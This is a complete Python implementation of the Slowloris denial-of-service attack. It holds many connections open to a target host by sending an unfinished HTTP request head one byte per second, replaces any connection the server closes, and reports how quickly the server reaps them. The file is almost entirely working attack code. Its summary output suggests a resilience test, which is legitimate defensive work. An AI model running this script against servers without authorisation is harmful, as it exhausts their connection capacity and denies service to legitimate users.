"""Slowloris: N connections that each send a request head one byte a second, never finishing it.

A reaped connection (closed by the server) is counted and replaced, so the pressure stays at N.
usage: slowloris.py HOST PORT N SECONDS   prints a summary line at the end.
"""
import selectors
import socket
import sys
import time

host, port, n, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
head = b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 10_000
sel = selectors.DefaultSelector()
conns = {}  # socket -> [opened_at, bytes_sent]
reaped_after = []
opened = 0


def open_one():
    global opened
    s = socket.socket()
    s.setblocking(False)
    try:
        s.connect((host, port))
    except BlockingIOError:
        pass
    conns[s] = [time.monotonic(), 0]
    sel.register(s, selectors.EVENT_READ)
    opened += 1


for _ in range(n):
    open_one()
start = time.monotonic()
next_tick = start
while time.monotonic() - start < seconds:
    timeout = max(0.0, next_tick - time.monotonic())
    for key, _ in sel.select(timeout):
        s = key.fileobj
        try:
            data = s.recv(4096)
        except OSError:
            data = b""
        if not data:  # the server closed it
            reaped_after.append(time.monotonic() - conns[s][0])
            sel.unregister(s)
            s.close()
            del conns[s]
            open_one()
    if time.monotonic() >= next_tick:
        next_tick += 1.0
        for s, state in list(conns.items()):
            try:
                s.send(head[state[1]:state[1] + 1])
                state[1] += 1
            except (BlockingIOError, OSError):
                pass
reaped_after.sort()
median = reaped_after[len(reaped_after) // 2] if reaped_after else float("nan")
print(f"slowloris: {n} held open for {seconds:.0f} s, {opened} opened, {len(reaped_after)} reaped by the server, "
      f"median time to reap {median:.1f} s, still open {len(conns)}")
